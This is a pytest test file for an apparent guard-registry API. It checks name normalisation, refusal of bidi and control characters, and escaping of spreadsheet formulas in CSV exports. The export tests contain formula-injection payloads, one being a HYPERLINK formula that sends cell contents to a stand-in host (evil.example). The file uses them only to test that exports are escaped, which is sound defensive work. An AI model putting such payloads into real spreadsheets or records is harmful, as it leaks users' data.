"""Names through the API (normalised or refused with a 422) and CSV exports with
formula cells escaped (issue 14)."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from click.testing import CliRunner

from api.csv_export import dict_writer, safe_cell
from tests.conftest import Api, random_id_number


# -- names ------------------------------------------------------------------------------
def test_a_guard_name_is_stored_normalised(regulator: Api) -> None:
    company = regulator.make_company()
    resp = regulator.post("/v1/guards", json={
        "name": "  王\u3000\u3000小明 ", "id_number": random_id_number(),
        "company_id": company["id"]})
    assert resp.status_code == 201, resp.text
    assert resp.json()["name"] == "王 小明"


@pytest.mark.parametrize("name", ["王\u202e明", "王\u2066明", "王\u200f明", "王\x1b明"])
@pytest.mark.parametrize("path", ["/v1/guards", "/v1/companies"])
def test_bidi_and_control_characters_in_names_are_a_422(regulator: Api, name: str,
                                                        path: str) -> None:
    if path == "/v1/guards":
        body: dict[str, Any] = {"name": name, "id_number": random_id_number(),
                                "company_id": regulator.make_company()["id"]}
    else:
        body = {"name": name, "credit_code": "x", "kind": "training",
                "licence_number": "x", "district": "d"}
    resp = regulator.post(path, json=body)
    assert resp.status_code == 422, resp.text
    problem = resp.json()
    field = [e for e in problem["errors"] if e["field"].endswith("name")]
    assert field and f"U+{ord(name[1]):04X}" in field[0]["message"]


def test_a_name_patch_is_checked_too(regulator: Api) -> None:
    company = regulator.make_company()
    guard = regulator.make_guard(company["id"])
    bad = regulator.patch(f"/v1/guards/{guard['id']}", json={"name": "李\u202e明"})
    assert bad.status_code == 422
    good = regulator.patch(f"/v1/guards/{guard['id']}", json={"name": " 李  明 "})
    assert good.status_code == 200, good.text
    assert good.json()["name"] == "李 明"


def test_csv_import_refuses_a_bidi_name(regulator: Api) -> None:
    company = regulator.make_company()
    body = f"name,id_number\n李\u202e明,{random_id_number()}\n 张  三 ,{random_id_number()}\n"
    resp = regulator.post(f"/v1/guards/import?company_id={company['id']}",
                          content=body.encode(), headers={"content-type": "text/csv"})
    assert resp.status_code == 200, resp.text
    out = resp.json()
    assert len(out["enrolled"]) == 1 and len(out["rejected"]) == 1
    assert "U+202E" in str(out["rejected"][0])


# -- CSV exports ------------------------------------------------------------------------
@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1",
                                  '=HYPERLINK("http://evil.example","x")'])
def test_formula_cells_are_escaped(cell: str) -> None:
    assert safe_cell(cell) == "'" + cell
    out = io.StringIO()
    w = dict_writer(out, ["a", "n"])
    w.writeheader()
    w.writerow({"a": cell, "n": -5})
    row = next(csv.DictReader(io.StringIO(out.getvalue())))
    assert row["a"] == "'" + cell
    assert row["n"] == "-5"  # numbers stay numbers


@pytest.mark.parametrize("cell", ["保安公司", "a=b", "1-2", "", None, 3.5])
def test_ordinary_cells_are_untouched(cell: Any) -> None:
    assert safe_cell(cell) == cell


def test_the_capture_rate_export_escapes_a_formula_company_name(cli_env: None,
                                                                regulator: Api) -> None:
    from api.cli import main

    name = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
    company = regulator.make_company(name=name)
    regulator.make_guard(company["id"])
    out = CliRunner().invoke(main, ["report", "capture-rate", "--csv", "--by", "company"])
    assert out.exit_code == 0, out.output
    rows = list(csv.DictReader(io.StringIO(out.output)))
    labels = [r["label"] for r in rows]
    assert "'" + name in labels
    assert name not in labels
